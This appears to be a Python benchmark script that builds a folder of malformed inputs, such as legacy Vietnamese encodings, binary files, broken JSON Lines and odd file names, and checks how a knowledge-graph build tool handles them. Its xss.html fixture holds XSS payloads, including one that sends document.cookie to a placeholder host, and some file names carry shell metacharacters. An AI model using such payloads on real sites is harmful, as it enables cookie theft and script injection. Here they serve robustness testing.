"""A zoo of bad inputs, and a check of what ``kg build`` makes of it.

Writes ~30 inputs into a folder (a temporary one unless --out is given): empty, blank,
binary, NUL bytes, a PNG, legacy encodings (TCVN3, VNI, Windows-1258), mojibake,
UTF-16, a file over the size bound, one long line, pathological dashes, names and
titles, XSS in HTML, broken JSON Lines, odd file names, a dangling link, a PDF, a
.docx. The articles are invented, in the genre's style. With --build, runs ``kg build``
on it and checks: exit status 1, one "skipped" line for each bad input and none for a
good one, and every fact of every good input in the graph (its named graph in the store
is the graph the pipeline makes of that input alone; the re-encoded articles' graphs
are the UTF-8 article's).

    .venv/bin/python benchmarks/bad_inputs.py --build
"""
from __future__ import annotations

import argparse
import itertools
import json
import os
import random
import subprocess
import sys
import tempfile
import time
import unicodedata
import zipfile
from pathlib import Path

import ftfy.bad_codecs  # noqa: F401 - registers sloppy-windows-1252, the codec mojibake is made with

# Invented articles. TCVN3 has no accented capitals (a heading font drew them): the one the
# legacy encodings carry has no accented capital but Đ.
ARTICLE = (
    "Sáng ngày 14/5/2024, Đảng ủy xã Phú Lâm tổ chức Hội nghị sơ kết 5 năm thực hiện Chỉ thị số 08-CT/TU "
    "của Ban Thường vụ Tỉnh ủy. Đồng chí Võ Thanh Tùng - Tỉnh ủy viên, Bí thư Huyện ủy Đông Sơn dự và phát biểu "
    "chỉ đạo. Đồng chí Lương Thị Diệu - Bí thư Đảng ủy xã chủ trì hội nghị. Hội nghị đã quán triệt Nghị quyết "
    "số 12-NQ/HU của Huyện ủy và Kế hoạch số 45-KH/ĐU của Đảng ủy xã."
)
LEGACY_ARTICLE = (
    "Sáng ngày 3/4/2022, Đảng ủy phường Hòa Bình tổ chức hội nghị sơ kết công tác xây dựng Đảng quý I năm 2022. "
    "Đồng chí Trần Văn An - Bí thư Đảng ủy phường chủ trì hội nghị. Tham dự có đồng chí Lê Thị Hạnh - Phó Bí thư "
    "Thường trực Đảng ủy phường. Hội nghị đã thảo luận việc thực hiện Nghị quyết số 05-NQ/ĐU của Đảng ủy phường."
)
TONE_MARKS = "\u0300\u0301\u0303\u0309\u0323"


def cp1258_bytes(text: str) -> bytes:
    """Windows-1258 as Vietnamese Windows wrote it: a base letter, then a combining tone mark."""
    out = bytearray()
    for char in unicodedata.normalize("NFC", text):
        decomposed = unicodedata.normalize("NFD", char)
        base = unicodedata.normalize("NFC", "".join(c for c in decomposed if c not in TONE_MARKS))
        out += (base + "".join(c for c in decomposed if c in TONE_MARKS)).encode("cp1258")
    return bytes(out)


def legacy_bytes(text: str, encoding: str) -> bytes:
    """``text`` as a legacy-font file (TCVN3 or VNI) stores it: each letter's font code point as one byte."""
    if encoding == "tcvn3":
        from viparse.normalize.tcvn3 import TCVN3 as charmap
    else:
        from viparse.normalize.vni import VNI as charmap
    codes: dict[str, str] = {}
    for code, letter in charmap.pairs:
        codes.setdefault(letter, code)
    return "".join(codes.get(c, c) for c in unicodedata.normalize("NFC", text)).encode("cp1252")


def names_list(count: int) -> str:
    rng = random.Random(11)
    surnames, middles = ["Nguyễn", "Trần", "Lê", "Phạm", "Đặng", "Bùi", "Hồ"], ["Văn", "Thị", "Minh", "Đức", "Ngọc", "Hữu", "Quốc", "Thanh"]
    givens = ["An", "Bình", "Cường", "Dung", "Giang", "Hà", "Khánh", "Lan", "Long", "Nam", "Sơn", "Yến", "Phúc",
              "Quân", "Tâm", "Thảo", "Trung", "Tuấn", "Hải", "Mai"]
    every = [f"{s} {m} {g} {h}" for s in surnames for m in middles for g in givens for h in givens if g != h]
    return "Danh sách khen thưởng gồm các đồng chí: " + ", ".join(rng.sample(every, count)) + "."


def minimal_pdf() -> bytes:
    return (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
            b"trailer<</Root 1 0 R>>\n%%EOF\n")


def minimal_docx(text: str) -> bytes:
    path = Path(tempfile.mkstemp(suffix=".docx")[1])
    try:
        with zipfile.ZipFile(path, "w") as docx:
            docx.writestr("[Content_Types].xml", "<Types/>")
            docx.writestr("word/document.xml", f"<w:document><w:body><w:p><w:t>{text}</w:t></w:p></w:body></w:document>")
        return path.read_bytes()
    finally:
        path.unlink()


def make_zoo(folder: Path, *, huge_bytes: int = 21 * 2**20, scale: float = 1.0) -> dict[str, bool]:
    """Write the zoo into ``folder``; per input (a path relative to it, ``:N`` for a JSON line) whether it is bad.
    ``huge_bytes`` is the size of the input over the bound; ``scale`` the size of the long ones."""
    def n(count: int) -> int:
        return max(1, int(count * scale))

    rng = random.Random(3)
    article = ARTICLE.encode()
    files: dict[str, tuple[bytes, bool]] = {
        "empty.txt": (b"", True),
        "blank.txt": (b" \n\n\t \n", True),
        "bom-only.txt": (b"\xef\xbb\xbf", True),
        "binary.txt": (bytes(rng.randrange(256) for _ in range(4096)) + b"\x00", True),
        "nul-bytes.txt": (article[:120] + b"\x00\x00" + article[120:], True),
        "image.txt": (b"\x89PNG\r\n\x1a\n" + bytes(rng.randrange(1, 256) for _ in range(2048)), True),
        "controls.txt": (bytes(rng.choice([1, 2, 3, 4, 5, 6, 14, 15, 16, 27]) for _ in range(3000)), True),
        "shift-jis.txt": (("会議は午前九時に始まり、委員会の報告が承認された。" * 20).encode("shift_jis"), True),
        "utf16-no-bom.txt": (ARTICLE.encode("utf-16-le"), True),
        "huge.txt": (((ARTICLE + "\n") * (huge_bytes // len(article) + 1)).encode(), True),
        "report.pdf": (minimal_pdf(), True),
        "minutes.docx": (minimal_docx(ARTICLE), True),
        "scripts-only.html": (b"<html><head><script>alert(1)</script></head><body><nav>Menu</nav></body></html>", True),
        "not-json.jsonl": (bytes(rng.randrange(1, 256) for _ in range(1024)), True),
        # good: converted, repaired or merely large or strange
        "tcvn3.txt": (legacy_bytes(LEGACY_ARTICLE, "tcvn3"), False),
        "vni.txt": (legacy_bytes(LEGACY_ARTICLE, "vni"), False),
        "cp1258.txt": (cp1258_bytes(LEGACY_ARTICLE), False),
        "mojibake.txt": (ARTICLE.encode().decode("sloppy-windows-1252").encode(), False),  # UTF-8 read as cp1252
        "utf16-bom.txt": (ARTICLE.encode("utf-16"), False),
        "crlf.txt": (ARTICLE.replace(". ", ".\r\n").encode(), False),
        "one-long-line.txt": (" ".join([ARTICLE] * n(2000)).encode(), False),
        "dashes.txt": (("- – — ― −" * n(100_000)).encode(), False),
        "dashed-names.txt": (("Đồng chí Trần Văn An - " * n(20_000)).encode(), False),
        "titles.txt": (("Bí thư Đảng ủy phường, " * n(20_000)).encode(), False),
        "names.txt": (names_list(n(20_000)).encode(), False),
        "capitals.txt": (" ".join(itertools.islice(itertools.cycle(["Trần", "Văn", "An", "Lê", "Thị", "Hà"]),
                                                   n(100_000))).encode(), False),
        "xss.html": ((f"<html><head><title>Hội nghị <script>alert('t')</script></title></head><body><article>"
                      f"<p>{ARTICLE}</p><script>document.location='http://x.invalid/'+document.cookie</script>"
                      f"<p><img src=x onerror=alert(1)> Đồng chí <b onmouseover=alert(2)>Hà Văn Khải</b> - Bí thư "
                      f"Đảng ủy xã phát biểu.</p></article></body></html>").encode(), False),
        "Bài viết có dấu cách.txt": (ARTICLE.encode(), False),
        "-starts-with-dash.txt": (ARTICLE.encode(), False),
        "quotes'\";semicolon&<tag>.txt": (ARTICLE.encode(), False),
        "line\nbreak in name.txt": (ARTICLE.encode(), False),
        ("x" * 200) + ".txt": (ARTICLE.encode(), False),
        "UPPER.TXT": (ARTICLE.encode(), False),
    }
    records = [json.dumps({"id": "record-ok", "text": ARTICLE}, ensure_ascii=False), '{"text": "unfinished',
               json.dumps({"id": "no-text", "title": "Hội nghị"}, ensure_ascii=False), "[1, 2, 3]"]
    files["broken.jsonl"] = ("\n".join(records).encode(), False)
    folder.mkdir(parents=True, exist_ok=True)
    for name, (data, _) in files.items():
        (folder / name).write_bytes(data)
    os.symlink(folder / "nowhere.txt", folder / "dangling-link.txt")
    expected = {name: bad for name, (_, bad) in files.items()}
    expected.update({"broken.jsonl": False, "broken.jsonl:2": True, "broken.jsonl:3": True, "broken.jsonl:4": True,
                     "dangling-link.txt": True})
    return expected


def times_named(stderr: str, folder: Path, name: str) -> int:
    """How many "skipped" lines of ``kg build`` name the input ``name`` (``file:N`` for a JSON line)."""
    file, _, line = name.partition(":")
    where = f"{folder / file}:{line}" if line else str(folder / file)
    return ("\n" + stderr).count(f"\nskipped {where}: ")


def check(folder: Path, out: Path, expected: dict[str, bool], stderr: str) -> list[str]:
    """What is wrong with a build of the zoo: a bad input not named once, a good one named, a fact missing."""
    from kg.facts import extract_all
    from kg.graph import article_iri, article_ntriples
    from kg.model import RawDocument
    from kg.normalize import normalize
    from kg.read import read_inputs
    from kg.store import ArticleStore

    wrong = [f"{name!r}: named {times_named(stderr, folder, name)} times" for name, bad in expected.items()
             if times_named(stderr, folder, name) != int(bad)]
    clean = {"tcvn3.txt": LEGACY_ARTICLE, "vni.txt": LEGACY_ARTICLE, "cp1258.txt": LEGACY_ARTICLE,
             "mojibake.txt": ARTICLE, "utf16-bom.txt": ARTICLE}
    good = [folder / name for name, bad in expected.items() if not bad and ":" not in name]
    with ArticleStore(out / "store", read_only=True) as store:
        for doc in read_inputs(good):
            if not isinstance(doc, RawDocument):
                if doc.line is None:  # a bad line of a good JSON Lines file is named above
                    wrong.append(f"{doc.path}: good but unreadable: {doc.reason}")
                continue
            source = RawDocument(doc.name, doc.path, clean[doc.name]) if doc.name in clean else doc
            made = _triples(article_ntriples(extract_all(normalize(source)))[0])  # the vocabulary is stored apart
            stored = {str(t) for t in store.article_triples(str(article_iri(doc.name)))}
            if not made or made != stored:
                wrong.append(f"{doc.name!r}: {len(made - stored)} of its {len(made)} facts missing from the graph, "
                             f"{len(stored - made)} others in it")
    return wrong


def _triples(ntriples: str) -> set[str]:
    import pyoxigraph

    return {str(t) for t in pyoxigraph.parse(ntriples.encode(), format=pyoxigraph.RdfFormat.N_TRIPLES)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--out", type=Path, help="folder to write the zoo in [default: a temporary folder]")
    parser.add_argument("--build", action="store_true", help="run kg build on the zoo and check what it made")
    args = parser.parse_args()
    with tempfile.TemporaryDirectory() as scratch:
        folder = args.out or Path(scratch, "zoo")
        expected = make_zoo(folder)
        print(f"{len(expected)} inputs in {folder}, {sum(expected.values())} of them bad")
        if not args.build:
            if not args.out:
                print("(a temporary folder, removed at exit: give --out to keep it, --build to build it)")
            return
        started = time.perf_counter()
        done = subprocess.run([sys.executable, "-c", "from kg.cli import main; main()", "build", str(folder),
                               "--out", str(Path(scratch, "out")), "--no-view"], capture_output=True, text=True)
        seconds = time.perf_counter() - started
        print(done.stderr + done.stdout)
        print(f"kg build of the zoo: exit {done.returncode} in {seconds:.1f} s")
        wrong = check(folder, Path(scratch, "out"), expected, done.stderr)
        wrong += [] if done.returncode == 1 else [f"exit status {done.returncode}, not 1"]
        print("\n".join(wrong) if wrong else "every bad input named once, no good one, every good input's facts stored")
        sys.exit(1 if wrong else 0)


if __name__ == "__main__":
    main()
